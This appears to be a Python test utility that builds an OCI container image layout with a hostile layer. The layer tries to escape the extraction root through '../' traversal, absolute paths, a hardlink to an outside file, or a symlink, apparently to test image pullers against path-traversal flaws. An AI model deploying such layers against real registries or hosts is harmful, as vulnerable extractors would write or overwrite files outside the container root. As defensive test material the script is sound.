"""Writes an OCI layout whose one layer tries to escape the root (stdlib only).

Usage: hostile_layout.py DIR CASE OUTSIDE. CASE is dotdot, absolute, hardlink or symlink;
OUTSIDE is an absolute directory the layer aims at. The layout is tagged CASE, for
skopeo to push to a test registry.
"""
import gzip
import hashlib
import io
import json
import os
import sys
import tarfile

directory, case, outside = sys.argv[1], sys.argv[2], sys.argv[3]
up = "../" * 12


def entry(name, data=b"x", kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.mtime = kind, link, 0o644, 0
    if kind == tarfile.REGTYPE:
        info.size = len(data)
        return info, io.BytesIO(data)
    return info, None


entries = {
    "dotdot": [entry(up + outside.lstrip("/") + "/pwned")],
    "absolute": [entry(outside + "/pwned")],
    "hardlink": [entry("stolen", kind=tarfile.LNKTYPE, link=outside + "/sentinel"), entry("stolen", b"overwritten")],
    "symlink": [entry("link", kind=tarfile.SYMTYPE, link=outside), entry("link/pwned", b"inside")],
}[case]

raw = io.BytesIO()
with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
    for info, data in entries:
        tar.addfile(info, data)
layer = raw.getvalue()
compressed = gzip.compress(layer, mtime=0)


def put(data):
    digest = hashlib.sha256(data).hexdigest()
    os.makedirs(os.path.join(directory, "blobs", "sha256"), exist_ok=True)
    with open(os.path.join(directory, "blobs", "sha256", digest), "wb") as f:
        f.write(data)
    return {"digest": "sha256:" + digest, "size": len(data)}


config = json.dumps({
    "architecture": "amd64", "os": "linux", "config": {},
    "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(layer).hexdigest()]},
}).encode()
manifest = json.dumps({
    "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
    "config": dict(put(config), mediaType="application/vnd.oci.image.config.v1+json"),
    "layers": [dict(put(compressed), mediaType="application/vnd.oci.image.layer.v1.tar+gzip")],
}).encode()
index = {"schemaVersion": 2, "manifests": [dict(put(manifest), mediaType="application/vnd.oci.image.manifest.v1+json",
                                                annotations={"org.opencontainers.image.ref.name": case})]}
with open(os.path.join(directory, "index.json"), "w") as f:
    json.dump(index, f)
with open(os.path.join(directory, "oci-layout"), "w") as f:
    json.dump({"imageLayoutVersion": "1.0.0"}, f)
